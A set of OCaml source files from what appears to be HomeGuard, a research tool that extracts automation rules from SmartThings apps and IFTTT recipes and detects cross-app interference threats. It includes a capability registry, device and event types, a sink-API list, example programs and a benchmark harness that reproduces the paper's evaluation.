    sensor "temperatureMeasurement" [ { attr_name = "temperature"; domain = Numeric (-40, 150) } ];
    sensor "relativeHumidityMeasurement" [ { attr_name = "humidity"; domain = pct } ];
    sensor "illuminanceMeasurement" [ { attr_name = "illuminance"; domain = Numeric (0, 100000) } ];
    sensor "motionSensor" [ { attr_name = "motion"; domain = Enum [ "active"; "inactive" ] } ];
    sensor "contactSensor" [ { attr_name = "contact"; domain = Enum [ "open"; "closed" ] } ];
    sensor "presenceSensor" [ { attr_name = "presence"; domain = Enum [ "present"; "not present" ] } ];
    sensor "accelerationSensor" [ { attr_name = "acceleration"; domain = Enum [ "active"; "inactive" ] } ];
    sensor "waterSensor" [ { attr_name = "water"; domain = Enum [ "dry"; "wet" ] } ];
    sensor "smokeDetector"
      [ { attr_name = "smoke"; domain = Enum [ "clear"; "detected"; "tested" ] } ];
    sensor "carbonMonoxideDetector"
      [ { attr_name = "carbonMonoxide"; domain = Enum [ "clear"; "detected"; "tested" ] } ];
    sensor "powerMeter" [ { attr_name = "power"; domain = Numeric (0, 100000) } ];
    sensor "energyMeter" [ { attr_name = "energy"; domain = Numeric (0, 1000000) } ];
    sensor "battery" [ { attr_name = "battery"; domain = pct } ];
    sensor "button" [ { attr_name = "button"; domain = Enum [ "pushed"; "held" ] } ];
    sensor "sleepSensor" [ { attr_name = "sleeping"; domain = Enum [ "sleeping"; "not sleeping" ] } ];
    sensor "soundPressureLevel" [ { attr_name = "soundPressureLevel"; domain = Numeric (0, 200) } ];
    sensor "stepSensor" [ { attr_name = "steps"; domain = Numeric (0, 100000) } ];
    sensor "threeAxis" [ { attr_name = "threeAxis"; domain = Numeric (-1000, 1000) } ];
    sensor "beacon" [ { attr_name = "presence"; domain = Enum [ "present"; "not present" ] } ];
    (* models the SmartWeather Station Tile's weather summary *)
    sensor "weatherSensor"
      [ { attr_name = "weather"; domain = Enum [ "sunny"; "cloudy"; "rainy"; "snow" ] } ];
    (* non-standard device type used by Feed My Pet (paper §VIII-B added
       it to the capability list after the special case surfaced) *)
    actuator "petfeederShield"
      [ { attr_name = "feeder"; domain = Enum [ "feeding"; "idle" ] } ]
      [ cmd "feed" ~writes:(set "feeder" ~v:"feeding") ];
    sensor "lockCodes" [ { attr_name = "codeReport"; domain = Numeric (0, 10000) } ];
  ]

(** Look up a capability by short name ("switch") or qualified name
    ("capability.switch"). *)
let find name =
  let short =
    match String.index_opt name '.' with
    | Some i when String.sub name 0 i = "capability" ->
      String.sub name (i + 1) (String.length name - i - 1)
    | _ -> name
  in
  List.find_opt (fun c -> c.cap_name = short) registry

exception Unknown_capability of string

let find_exn name =
  match find name with Some c -> c | None -> raise (Unknown_capability name)

(** All registered capability names. *)
let names () = List.map (fun c -> c.cap_name) registry

(** Total number of distinct commands in the registry. *)
let command_count () =
  List.fold_left (fun acc c -> acc + List.length c.commands) 0 registry

(** [command_of cap name] looks up a command of capability [cap]. *)
let command_of cap name = List.find_opt (fun c -> c.cmd_name = name) cap.commands

(** [attribute_of cap name] looks up an attribute of capability [cap]. *)
let attribute_of cap name = List.find_opt (fun a -> a.attr_name = name) cap.attributes

(** Does some registered capability define a command with this name?
    Used by the symbolic executor to recognise sinks. *)
let is_capability_command name =
  List.exists (fun c -> List.exists (fun cm -> cm.cmd_name = name) c.commands) registry

(** Capabilities that define the given command name. *)
let capabilities_with_command name =
  List.filter (fun c -> List.exists (fun cm -> cm.cmd_name = name) c.commands) registry

(** Capabilities that define the given attribute name. *)
let capabilities_with_attribute name =
  List.filter (fun c -> List.exists (fun a -> a.attr_name = name) c.attributes) registry

(** [contradicts cap cmd1 cmd2] holds when the two commands of [cap] are
    declared opposites (e.g. on/off, lock/unlock). *)
let contradicts cap cmd1 cmd2 =
  match command_of cap cmd1 with
  | Some c -> c.opposite = Some cmd2
  | None -> false

(** Value domain of attribute [attr] in any capability declaring it;
    domains agree across capabilities by construction. *)
let attribute_domain attr =
  match capabilities_with_attribute attr with
  | [] -> None
  | cap :: _ -> Option.map (fun a -> a.domain) (attribute_of cap attr)
