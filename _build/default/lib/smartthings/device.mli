(** Devices: 128-bit platform identity, label, supported capabilities. *)

type id = string
(** 32 lowercase hex digits. *)

type t = {
  id : id;
  label : string;
  capabilities : string list;
  device_type : string;
}

val id_of_seed : string -> id
(** Deterministic id derived from a seed string (reproducible tests). *)

val make : ?device_type:string -> label:string -> string list -> t
val supports : t -> string -> bool
val attributes : t -> string list
val commands : t -> string list
val pp : Format.formatter -> t -> unit
