(** Physical/virtual devices as seen by the platform.

    Every device carries the globally unique 128-bit identifier that
    SmartThings assigns (rendered as 32 hex digits), a user-facing label,
    and the set of capabilities it supports. The configuration collector
    (paper §VII) ships these IDs to the detector so that two rules can be
    matched on the *same* device rather than merely the same type. *)

type id = string  (** 32 lowercase hex digits *)

type t = {
  id : id;
  label : string;
  capabilities : string list;  (** short capability names *)
  device_type : string;
      (** concrete product type (e.g. "light", "window opener") — used to
          disambiguate bare capability.switch devices (paper §VIII-B) *)
}

(* Deterministic 128-bit id from a seed string: speeds tests and makes
   corpus runs reproducible without an RNG dependency. *)
let id_of_seed seed =
  let h1 = Hashtbl.hash seed in
  let h2 = Hashtbl.hash (seed ^ "#2") in
  let h3 = Hashtbl.hash (seed ^ "#3") in
  let h4 = Hashtbl.hash (seed ^ "#4") in
  Printf.sprintf "%08x%08x%08x%08x" h1 h2 h3 h4

let make ?device_type ~label capabilities =
  let device_type = match device_type with Some t -> t | None -> label in
  { id = id_of_seed (label ^ ":" ^ device_type); label; capabilities; device_type }

(** [supports dev cap] checks whether [dev] declares capability [cap]
    (accepts "capability."-qualified names). *)
let supports dev cap =
  let short =
    match String.index_opt cap '.' with
    | Some i when String.sub cap 0 i = "capability" ->
      String.sub cap (i + 1) (String.length cap - i - 1)
    | _ -> cap
  in
  List.mem short dev.capabilities

(** All attributes exposed by the device via its capabilities. *)
let attributes dev =
  List.concat_map
    (fun cap_name ->
      match Capability.find cap_name with
      | Some cap -> List.map (fun a -> a.Capability.attr_name) cap.Capability.attributes
      | None -> [])
    dev.capabilities

(** All commands accepted by the device via its capabilities. *)
let commands dev =
  List.concat_map
    (fun cap_name ->
      match Capability.find cap_name with
      | Some cap -> List.map (fun c -> c.Capability.cmd_name) cap.Capability.commands
      | None -> [])
    dev.capabilities

let pp fmt dev =
  Format.fprintf fmt "%s (%s, id=%s…)" dev.label dev.device_type (String.sub dev.id 0 8)
