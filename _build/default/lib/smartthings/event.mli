(** Platform events broadcast to subscribed apps. *)

type value = V_str of string | V_num of int

type source =
  | Device of Device.id
  | Location
  | Timer of string
  | App of string

type t = { source : source; attribute : string; value : value; at : int }

val value_to_string : value -> string
val make : ?at:int -> source -> string -> value -> t
val pp : Format.formatter -> t -> unit
