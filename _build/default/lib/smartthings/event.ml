(** Platform events.

    The cloud listens to all sensor reports and broadcasts events to
    subscribed SmartApps (paper §II-A). An event carries the originating
    device (or platform feature such as the location mode), the attribute
    that changed and its new value. *)

type value = V_str of string | V_num of int

type source =
  | Device of Device.id
  | Location  (** location-mode and other platform-level events *)
  | Timer of string  (** scheduled-execution pseudo-events (method name) *)
  | App of string  (** app touch / virtual events *)

type t = {
  source : source;
  attribute : string;
  value : value;
  at : int;  (** milliseconds since simulation epoch *)
}

let value_to_string = function V_str s -> s | V_num n -> string_of_int n

let make ?(at = 0) source attribute value = { source; attribute; value; at }

let pp fmt e =
  let src =
    match e.source with
    | Device id -> Printf.sprintf "device:%s" (String.sub id 0 (min 8 (String.length id)))
    | Location -> "location"
    | Timer m -> "timer:" ^ m
    | App a -> "app:" ^ a
  in
  Format.fprintf fmt "[%dms %s %s=%s]" e.at src e.attribute (value_to_string e.value)
