lib/smartthings/event.ml: Device Format Printf String
