lib/smartthings/capability.ml: List Option String
