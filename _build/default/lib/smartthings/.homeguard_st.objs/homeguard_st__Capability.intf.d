lib/smartthings/capability.mli:
