lib/smartthings/env_feature.ml:
