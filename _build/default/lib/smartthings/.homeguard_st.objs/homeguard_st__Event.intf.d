lib/smartthings/event.mli: Device Format
