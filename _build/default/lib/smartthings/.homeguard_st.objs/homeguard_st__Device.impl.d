lib/smartthings/device.ml: Capability Format Hashtbl List Printf String
