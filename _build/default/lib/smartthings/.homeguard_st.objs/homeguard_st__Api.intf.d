lib/smartthings/api.mli:
