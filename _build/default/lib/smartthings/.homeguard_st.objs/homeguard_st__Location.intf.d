lib/smartthings/location.mli:
