lib/smartthings/api.ml: List
