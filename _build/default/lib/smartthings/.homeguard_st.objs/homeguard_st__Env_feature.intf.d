lib/smartthings/env_feature.mli:
