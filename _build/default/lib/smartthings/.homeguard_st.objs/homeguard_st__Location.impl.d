lib/smartthings/location.ml: List
