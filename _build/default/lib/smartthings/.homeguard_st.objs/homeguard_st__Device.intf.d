lib/smartthings/device.mli: Format
