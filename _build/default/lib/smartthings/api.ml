(** SmartThings SmartApp API surface relevant to rule extraction.

    Mirrors the paper's Table VI (the 21 sensitive APIs considered as
    sinks) and §V-B's API modeling: scheduling APIs attach [when]/[period]
    information to downstream sinks; messaging and HTTP APIs are sinks in
    their own right. *)

(** Classification of a platform API call site. *)
type kind =
  | Http  (** httpGet/httpPost/... — data exfiltration or web hooks *)
  | Delayed_run of [ `Seconds_arg ]  (** [runIn(delay, method)] *)
  | Periodic_run of int  (** [runEveryNMinutes(method)] — period in seconds *)
  | Run_once  (** [runOnce(time, method)] *)
  | Daily_schedule  (** [schedule(time, method)] *)
  | Hub_command  (** [sendHubCommand(...)] *)
  | Sms  (** [sendSms]/[sendSmsMessage] *)
  | Push_notification  (** [sendPush]/[sendNotification*] — not in Table VI *)
  | Set_location_mode  (** [setLocationMode(mode)] — a platform actuator *)

let sink_apis : (string * kind) list =
  [
    ("httpDelete", Http);
    ("httpGet", Http);
    ("httpHead", Http);
    ("httpPost", Http);
    ("httpPostJson", Http);
    ("httpPut", Http);
    ("httpPutJson", Http);
    ("runIn", Delayed_run `Seconds_arg);
    ("runEvery1Minute", Periodic_run 60);
    ("runEvery5Minutes", Periodic_run 300);
    ("runEvery10Minutes", Periodic_run 600);
    ("runEvery15Minutes", Periodic_run 900);
    ("runEvery30Minutes", Periodic_run 1800);
    ("runEvery1Hour", Periodic_run 3600);
    ("runEvery3Hours", Periodic_run 10800);
    ("runOnce", Run_once);
    ("schedule", Daily_schedule);
    ("runDaily", Daily_schedule);
    (* undocumented; added after the Camera Power Scheduler case, §VIII-B *)
    ("sendHubCommand", Hub_command);
    ("sendSms", Sms);
    ("sendSmsMessage", Sms);
    ("setLocationMode", Set_location_mode);
    ("sendPush", Push_notification);
    ("sendPushMessage", Push_notification);
    ("sendNotification", Push_notification);
    ("sendNotificationEvent", Push_notification);
    ("sendNotificationToContacts", Push_notification);
  ]

let kind_of name = List.assoc_opt name sink_apis

(** Is this API one of the paper's Table VI sensitive sinks? (Push
    notifications are tracked but are not Table VI sinks.) *)
let is_table_vi_sink name =
  match kind_of name with
  | Some Push_notification | None -> false
  | Some _ -> true

(** Scheduling APIs: calls that cause another method to run later. *)
let is_scheduling name =
  match kind_of name with
  | Some (Delayed_run _ | Periodic_run _ | Run_once | Daily_schedule) -> true
  | _ -> false

(** Lifecycle methods: analysis entry points (paper §V-B). *)
let entry_points = [ "installed"; "updated"; "uninstalled" ]

(** Platform calls that are pure UI/metadata and carry no automation
    semantics. The extractor skips their bodies except for [input]. *)
let ui_methods = [ "definition"; "preferences"; "section"; "paragraph"; "label"; "mode"; "page"; "dynamicPage"; "href" ]
