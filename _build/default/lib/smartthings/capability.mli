(** SmartThings capability registry: attributes (with value domains) and
    commands (capability-protected sinks) per device abstraction. *)

type value_domain =
  | Enum of string list
  | Numeric of int * int  (** inclusive bounds *)

type attribute = { attr_name : string; domain : value_domain }

type effect_on_attr = {
  target_attr : string;
  fixed_value : string option;
      (** [None] when the written value is the command's first parameter *)
}

type command = {
  cmd_name : string;
  cmd_params : value_domain list;
  writes : effect_on_attr option;
  opposite : string option;
}

type t = {
  cap_name : string;
  attributes : attribute list;
  commands : command list;
  is_actuator : bool;
}

val registry : t list

exception Unknown_capability of string

val find : string -> t option
(** Accepts short ("switch") or qualified ("capability.switch") names. *)

val find_exn : string -> t
val names : unit -> string list
val command_count : unit -> int
val command_of : t -> string -> command option
val attribute_of : t -> string -> attribute option

val is_capability_command : string -> bool
(** Does any registered capability define this command? (Sink test.) *)

val capabilities_with_command : string -> t list
val capabilities_with_attribute : string -> t list

val contradicts : t -> string -> string -> bool
(** Declared-opposite commands (on/off, lock/unlock, ...). *)

val attribute_domain : string -> value_domain option
(** Domain of an attribute in any capability declaring it. *)
