(** Install-time vetting walkthrough (paper §IV-C, §VII): the full
    deployment path — instrument the app, ship the configuration URI
    over SMS, record it, detect threats against the installed home and
    make the one-time decision.

    Run with: [dune exec examples/custom_vetting.exe] *)

module Homeguard = Homeguard_core.Homeguard
module Rule = Homeguard_rules.Rule
module Extract = Homeguard_symexec.Extract
module Install_flow = Homeguard_frontend.Install_flow
module Instrument = Homeguard_config.Instrument
module Messaging = Homeguard_config.Messaging
module Device = Homeguard_st.Device
open Homeguard_corpus

let app name =
  let e = Option.get (Corpus.find name) in
  (Extract.extract_source ~name:e.App_entry.name e.App_entry.source).Extract.app

let () =
  print_endline "== Install-time vetting ==\n";

  (* 1. What instrumentation does to an app (paper Listing 3). *)
  let src = (Option.get (Corpus.find "ComfortTV")).App_entry.source in
  let instrumented = Instrument.instrument_source ~app_name:"ComfortTV" src in
  Printf.printf "Instrumented ComfortTV grows from %d to %d bytes; excerpt:\n"
    (String.length src) (String.length instrumented);
  String.split_on_char '\n' instrumented
  |> List.filter (fun l ->
         let has sub =
           let rec go i =
             i + String.length sub <= String.length l
             && (String.sub l i (String.length sub) = sub || go (i + 1))
           in
           go 0
         in
         has "collectConfigInfo" || has "patchedphone" || has "sendSmsMessage")
  |> List.iteri (fun i l -> if i < 6 then Printf.printf "    %s\n" (String.trim l));

  (* 2. A home, with devices bound at install time. *)
  let home = Homeguard.create_home () in
  let tv = Device.id_of_seed "living room tv" in
  let window = Device.id_of_seed "window opener" in
  let tsensor = Device.id_of_seed "thermometer" in
  let weather = Device.id_of_seed "weather tile" in

  let install name ~devices ~values =
    Printf.printf "\n-- installing %s --\n" name;
    let report, latency =
      Homeguard.begin_install home ~transport:Messaging.Sms ~app:(app name)
        ~device_bindings:devices ~value_bindings:values ()
    in
    (match latency with
    | Some ms -> Printf.printf "configuration URI arrived over SMS in %.0f ms\n" ms
    | None -> print_endline "configuration message lost!");
    Printf.printf "rules shown to the user:\n%s\n" report.Install_flow.rules_text;
    Printf.printf "%s\n" report.Install_flow.threats_text;
    List.iter
      (fun c ->
        Printf.printf "chained: %s\n" (Homeguard_detector.Chain.chain_to_string c))
      report.Install_flow.chains;
    report
  in

  (* First app: clean. *)
  let _ =
    install "ComfortTV"
      ~devices:[ ("tv1", tv); ("tSensor", tsensor); ("window1", window) ]
      ~values:[ ("threshold1", "30") ]
  in
  Homeguard.decide home Install_flow.Keep;
  print_endline "user decision: KEEP";

  (* Second app: shares the TV and the window -> threats appear and the
     user rejects. *)
  let report =
    install "ColdDefender"
      ~devices:[ ("tv2", tv); ("wSensor", weather); ("window2", window) ]
      ~values:[]
  in
  let has_ar =
    List.exists
      (fun (t : Homeguard_detector.Threat.t) ->
        t.Homeguard_detector.Threat.category = Homeguard_detector.Threat.AR)
      report.Install_flow.threats
  in
  if has_ar then begin
    Homeguard.decide home Install_flow.Reject;
    print_endline "user decision: REJECT (actuator race on the window)"
  end
  else begin
    Homeguard.decide home Install_flow.Keep;
    print_endline "user decision: KEEP"
  end;

  Printf.printf "\ninstalled apps: %s\n"
    (String.concat ", " (List.map (fun a -> a.Rule.name) (Homeguard.installed home)))
