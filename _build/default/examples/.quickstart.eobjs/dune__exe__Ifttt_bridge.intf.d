examples/ifttt_bridge.mli:
