examples/quickstart.mli:
