examples/custom_vetting.mli:
