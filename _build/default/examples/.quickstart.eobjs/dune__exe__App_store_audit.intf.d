examples/app_store_audit.mli:
