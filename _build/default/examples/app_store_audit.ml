(** App-store audit (paper §VIII-B): pairwise CAI detection over the
    device-controlling corpus, reporting per-category statistics grouped
    by Switch / Mode / Others as in Fig 8, plus the notable real-world
    cases the paper lists.

    Run with: [dune exec examples/app_store_audit.exe] *)

module Rule = Homeguard_rules.Rule
module Extract = Homeguard_symexec.Extract
module Detector = Homeguard_detector.Detector
module Threat = Homeguard_detector.Threat
open Homeguard_corpus

(* Fig 8 groups: apps controlling a bare switch, apps controlling the
   location mode, and everything else. *)
let group_of (app : Rule.smartapp) =
  let controls_mode =
    List.exists
      (fun (r : Rule.t) ->
        List.exists (fun a -> a.Rule.target = Rule.Act_location_mode) r.Rule.actions)
      app.Rule.rules
  in
  let controls_generic_switch =
    List.exists
      (fun (r : Rule.t) ->
        List.exists
          (fun a ->
            match a.Rule.target with
            | Rule.Act_device v ->
              Rule.capability_of_input app v = Some "switch"
              && Homeguard_detector.Effects.classify app v
                 = Homeguard_detector.Effects.Generic_switch
            | _ -> false)
          r.Rule.actions)
      app.Rule.rules
  in
  if controls_mode then `Mode else if controls_generic_switch then `Switch else `Others

let () =
  Printf.printf "== App-store audit ==\n%s\n\n" (Corpus.stats ());
  let apps =
    List.map
      (fun (e : App_entry.t) ->
        (Extract.extract_source ~name:e.App_entry.name e.App_entry.source).Extract.app)
      Corpus.audit_apps
  in
  let ctx = Detector.create Detector.offline_config in
  let t0 = Sys.time () in
  let threats = Detector.detect_all ctx apps in
  let elapsed = Sys.time () -. t0 in
  Printf.printf "analyzed %d apps pairwise in %.2fs (%d solver calls)\n" (List.length apps)
    elapsed ctx.Detector.solver_calls;
  Printf.printf "total threat instances: %d\n\n" (List.length threats);

  (* Fig 8: category x group counts. *)
  let count group cat =
    List.length
      (List.filter
         (fun (t : Threat.t) ->
           t.Threat.category = cat
           && (group_of t.Threat.app1 = group || group_of t.Threat.app2 = group))
         threats)
  in
  print_endline "Fig 8-style statistics (threat instances by group):";
  Printf.printf "%-8s %6s %6s %6s %6s %6s %6s %6s\n" "group" "AR" "GC" "CT" "SD" "LT" "EC" "DC";
  List.iter
    (fun (label, group) ->
      Printf.printf "%-8s" label;
      List.iter
        (fun cat -> Printf.printf " %6d" (count group cat))
        Threat.all_categories;
      print_newline ())
    [ ("Switch", `Switch); ("Mode", `Mode); ("Others", `Others) ];

  (* The paper's §VIII-B named findings. *)
  print_endline "\nNotable detected cases (paper §VIII-B items 1-6):";
  let show_pair name1 name2 =
    let involved =
      List.filter
        (fun (t : Threat.t) ->
          (t.Threat.app1.Rule.name = name1 && t.Threat.app2.Rule.name = name2)
          || (t.Threat.app1.Rule.name = name2 && t.Threat.app2.Rule.name = name1))
        threats
    in
    Printf.printf "  %s vs %s: %s\n" name1 name2
      (if involved = [] then "none"
       else
         String.concat ", "
           (List.sort_uniq compare
              (List.map (fun (t : Threat.t) -> Threat.category_to_string t.Threat.category) involved)))
  in
  show_pair "SwitchChangesMode" "MakeItSo";
  show_pair "CurlingIron" "SwitchChangesMode";
  show_pair "NFCTagToggle" "LockItWhenILeave";
  show_pair "LetThereBeDark" "UndeadEarlyWarning";
  show_pair "ItsTooHot" "EnergySaver";
  show_pair "LightUpTheNight" "SmartNightlight"
