(** Multi-platform bridge (paper §VIII-D4, Table IV): the homeowner runs
    both SmartThings SmartApps and IFTTT applets. IFTTT rules are
    templates, so they are parsed rather than symbolically executed —
    and once lowered into the shared rule IR, the unchanged detector
    finds threats *across* the two platforms.

    Run with: [dune exec examples/ifttt_bridge.exe] *)

module Ifttt = Homeguard_ifttt.Ifttt
module Rule = Homeguard_rules.Rule
module Extract = Homeguard_symexec.Extract
module Detector = Homeguard_detector.Detector
module Threat = Homeguard_detector.Threat
module Rule_interpreter = Homeguard_frontend.Rule_interpreter
module Threat_interpreter = Homeguard_frontend.Threat_interpreter
open Homeguard_corpus

let corpus_app name =
  let e = Option.get (Corpus.find name) in
  (Extract.extract_source ~name:e.App_entry.name e.App_entry.source).Extract.app

(* The homeowner's IFTTT account, exported as recipe text. *)
let recipes =
  {|
# lighting
IF hall.motion IS active THEN floorLamp DO on
EVERY DAY AT 19:00 THEN floorLamp DO on
# comfort
IF office.temperature IS 85 THEN deskFan DO on
# security-ish convenience
IF everyone.presence IS not_present THEN MODE Away
|}

let () =
  print_endline "== IFTTT x SmartThings cross-platform detection ==\n";

  (* 1. Parse the recipes: no symbolic execution, just templates. *)
  let ifttt_app = Ifttt.parse_recipes ~name:"MyIftttAccount" recipes in
  Printf.printf "Parsed %d applets; inferred device inputs:\n" (List.length ifttt_app.Rule.rules);
  List.iter
    (fun (i : Rule.input_decl) -> Printf.printf "  %-12s %s\n" i.Rule.var i.Rule.input_type)
    ifttt_app.Rule.inputs;
  Printf.printf "\nAs rules:\n%s\n" (Rule_interpreter.describe_app ifttt_app);

  (* 2. The SmartThings side of the home. *)
  let smartapps = [ corpus_app "NightCare"; corpus_app "BurglarFinder"; corpus_app "BonVoyage" ] in
  Printf.printf "\nSmartThings apps installed: %s\n"
    (String.concat ", " (List.map (fun a -> a.Rule.name) smartapps));

  (* 3. One detector, both platforms. *)
  let ctx = Detector.create Detector.offline_config in
  let threats = Detector.detect_all ctx (ifttt_app :: smartapps) in
  let cross_platform =
    List.filter
      (fun (t : Threat.t) ->
        (t.Threat.app1.Rule.name = "MyIftttAccount") <> (t.Threat.app2.Rule.name = "MyIftttAccount"))
      threats
  in
  Printf.printf "\nthreats found: %d total, %d across the platform boundary\n\n"
    (List.length threats) (List.length cross_platform);
  print_endline (Threat_interpreter.describe_all cross_platform);
  print_endline "\n(The IFTTT lamp applets race NightCare over the floor lamp and covertly";
  print_endline " trigger it; the Away-mode applet interacts with the mode-reading apps —";
  print_endline " none of which either platform can see on its own.)"
