(** Quickstart: extract rules from a SmartApp, read them back, and check
    a pair of apps for cross-app interference.

    Run with: [dune exec examples/quickstart.exe] *)

module Homeguard = Homeguard_core.Homeguard
module Rule = Homeguard_rules.Rule
module Extract = Homeguard_symexec.Extract
module Detector = Homeguard_detector.Detector
module Rule_interpreter = Homeguard_frontend.Rule_interpreter
module Threat_interpreter = Homeguard_frontend.Threat_interpreter

(* The paper's Listing 1: open the window when the TV is on and the room
   is hot. *)
let comfort_tv_source =
  {|
definition(name: "ComfortTV", description: "Open the window when watching TV in a hot room")

preferences {
  section("Devices") {
    input "tv1", "capability.switch", title: "Which TV?"
    input "tSensor", "capability.temperatureMeasurement"
    input "threshold1", "number", title: "Higher than?"
    input "window1", "capability.switch", title: "Window opener"
  }
}

def installed() {
  subscribe(tv1, "switch", onHandler)
}

def updated() {
  unsubscribe()
  subscribe(tv1, "switch", onHandler)
}

def onHandler(evt) {
  def t = tSensor.currentValue("temperature")
  if ((evt.value == "on") && (t > threshold1)) turnOnWindow()
}

def turnOnWindow() {
  if (window1.currentSwitch == "off")
    window1.on()
}
|}

(* A second app that closes the same window when it rains. *)
let cold_defender_source =
  {|
definition(name: "ColdDefender", description: "Close the window when it rains while the TV is on")

preferences {
  section("Devices") {
    input "tv2", "capability.switch", title: "Which TV?"
    input "wSensor", "capability.weatherSensor"
    input "window2", "capability.switch", title: "Window opener"
  }
}

def installed() {
  subscribe(tv2, "switch", rainHandler)
}

def updated() {
  unsubscribe()
  subscribe(tv2, "switch", rainHandler)
}

def rainHandler(evt) {
  if (evt.value == "on") {
    if (wSensor.currentValue("weather") == "rainy") {
      window2.off()
    }
  }
}
|}

let () =
  print_endline "== HomeGuard quickstart ==\n";

  (* 1. Extract rules via symbolic execution (the backend-server role). *)
  let result = Homeguard.extract comfort_tv_source in
  let app = result.Extract.app in
  Printf.printf "Extracted %d rule(s) from %s:\n%s\n\n" (List.length app.Rule.rules)
    app.Rule.name
    (Rule_interpreter.describe_app app);

  (* 2. The raw Listing-2-style representation (paper Table II). *)
  let rule = List.hd app.Rule.rules in
  (match rule.Rule.trigger with
  | Rule.Event { subject; attribute; constraint_ } ->
    Printf.printf "Trigger:   subject=%s attribute=%s constraint=%s\n"
      (Rule.subject_to_string subject) attribute
      (Homeguard_solver.Formula.to_string constraint_)
  | Rule.Scheduled _ -> print_endline "Trigger:   (scheduled)");
  List.iter
    (fun (v, t) ->
      Printf.printf "Data:      %s = %s\n" v (Homeguard_solver.Term.to_string t))
    rule.Rule.condition.Rule.data;
  Printf.printf "Predicate: %s\n"
    (Homeguard_solver.Formula.to_string rule.Rule.condition.Rule.predicate);
  List.iter
    (fun (a : Rule.action) ->
      Printf.printf "Action:    %s -> %s when=%ds period=%ds\n"
        (Rule.target_to_string a.Rule.target) a.Rule.command a.Rule.when_ a.Rule.period)
    rule.Rule.actions;

  (* 3. Rule files: what the backend stores and ships to the phone. *)
  let rule_file = Homeguard_rules.Rule_json.to_string app in
  Printf.printf "\nRule file: %d bytes of JSON\n" (String.length rule_file);

  (* 4. Detect CAI threats between the two apps (offline, by device
        type — the corpus-audit mode of §VIII-B). *)
  let app2 = (Homeguard.extract cold_defender_source).Extract.app in
  let ctx = Detector.create Detector.offline_config in
  let threats = Detector.detect_all ctx [ app; app2 ] in
  Printf.printf "\n%s\n" (Threat_interpreter.describe_all threats)
