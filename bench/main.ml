(** Benchmark and experiment harness.

    Regenerates every table and figure of the paper's evaluation
    (§VIII): one section per artifact (see DESIGN.md's per-experiment
    index), each printing the same rows/series the paper reports, plus a
    Bechamel micro-benchmark group with one [Test.make] per table/figure
    measurement. Absolute numbers differ from the paper's testbed (a
    Galaxy S8 and the SmartThings cloud); the shapes are the point. *)

module Rule = Homeguard_rules.Rule
module Rule_json = Homeguard_rules.Rule_json
module Extract = Homeguard_symexec.Extract
module Detector = Homeguard_detector.Detector
module Schedule = Homeguard_detector.Schedule
module Threat = Homeguard_detector.Threat
module Chain = Homeguard_detector.Chain
module Effects = Homeguard_detector.Effects
module Messaging = Homeguard_config.Messaging
module Device = Homeguard_st.Device
module Policy = Homeguard_handling.Policy
module Mediator = Homeguard_handling.Mediator
module Engine = Homeguard_sim.Engine
module Trace = Homeguard_sim.Trace
module Scenario = Homeguard_sim.Scenario
module Formula = Homeguard_solver.Formula
module Term = Homeguard_solver.Term
module Solver = Homeguard_solver.Solver
module Store = Homeguard_solver.Store
module Trajectory = Homeguard_bench.Trajectory
module Bstats = Homeguard_bench.Stats
module Fsutil = Homeguard_bench.Fsutil
open Homeguard_corpus

let section title =
  Printf.printf "\n%s\n%s\n" title (String.make (String.length title) '=')

let extract_entry (e : App_entry.t) =
  Extract.extract_source ~name:e.App_entry.name e.App_entry.source

let extract_app e = (extract_entry e).Extract.app

let audit_apps = lazy (List.map extract_app Corpus.audit_apps)

let app name = extract_app (Option.get (Corpus.find name))

let time_ms f =
  let t0 = Unix.gettimeofday () in
  let result = f () in
  (result, (Unix.gettimeofday () -. t0) *. 1000.0)

(* Scratch directory for the journal/serving sections (J1, O1): cleared
   in-process, no shell-out. *)
let fresh_dir tag =
  let dir =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "hg_bench_%s_%d" tag (Unix.getpid ()))
  in
  Fsutil.rm_rf dir;
  dir

(* ------------------------------------------------------------------ E1 *)

let e1_table_ii () =
  section "E1. Table II — rule representation of Rule 1 (ComfortTV)";
  let a = app "ComfortTV" in
  let r = List.hd a.Rule.rules in
  (match r.Rule.trigger with
  | Rule.Event { subject; attribute; constraint_ } ->
    Printf.printf "Trigger   | subject: %s\n" (Rule.subject_to_string subject);
    Printf.printf "          | attribute: %s\n" attribute;
    Printf.printf "          | constraint: %s\n" (Formula.to_string constraint_)
  | Rule.Scheduled _ -> ());
  List.iter
    (fun (v, t) -> Printf.printf "Condition | data: %s = %s\n" v (Term.to_string t))
    r.Rule.condition.Rule.data;
  Printf.printf "          | predicate: %s\n" (Formula.to_string r.Rule.condition.Rule.predicate);
  List.iter
    (fun (a : Rule.action) ->
      Printf.printf "Action    | subject: %s  command: %s  paras: [%s]  when: %d  period: %d\n"
        (Rule.target_to_string a.Rule.target) a.Rule.command
        (String.concat "," (List.map Term.to_string a.Rule.params))
        a.Rule.when_ a.Rule.period)
    r.Rule.actions;
  print_endline "(paper Table II: trigger tv1.switch==on; data t=tSensor.temperature;";
  print_endline " predicate t>threshold1 && window1.switch==off; action window1.on)"

(* ------------------------------------------------------------------ E2 *)

let e2_exploitation () =
  section "E2. §VIII-A — exploitation experiments with the 5 demo apps";
  let demo = List.map extract_app Apps_demo.all in
  let ctx = Detector.create Detector.offline_config in
  let threats = Detector.detect_all ctx demo in
  Printf.printf "static detection: %d threat instances among the 5 apps\n"
    (List.length threats);
  List.iter (fun t -> Printf.printf "  %s\n" (Threat.to_string t)) threats;
  (* dynamic: the Fig 3 race under 20 seeds *)
  let tv = Device.make ~label:"TV" ~device_type:"tv" [ "switch" ] in
  let window = Device.make ~label:"Window" ~device_type:"window" [ "switch" ] in
  let ts = Device.make ~label:"T" ~device_type:"temp" [ "temperatureMeasurement" ] in
  let ws = Device.make ~label:"W" ~device_type:"weather" [ "weatherSensor" ] in
  let setup t =
    Engine.install t (app "ComfortTV")
      [ ("tv1", Engine.B_device tv); ("tSensor", Engine.B_device ts);
        ("threshold1", Engine.B_int 30); ("window1", Engine.B_device window) ];
    Engine.install t (app "ColdDefender")
      [ ("tv2", Engine.B_device tv); ("wSensor", Engine.B_device ws);
        ("window2", Engine.B_device window) ];
    Engine.stimulate t ts.Device.id "temperature" "31";
    Engine.stimulate t ws.Device.id "weather" "rainy";
    Engine.stimulate t tv.Device.id "switch" "on"
  in
  let outcomes =
    Scenario.race_outcomes ~seeds:(List.init 20 (fun i -> i + 1)) ~until_ms:10_000 ~setup
      ~device:"Window" ~attribute:"switch" ()
  in
  Printf.printf "dynamic race outcomes across 20 seeded runs: %d distinct\n"
    (List.length outcomes);
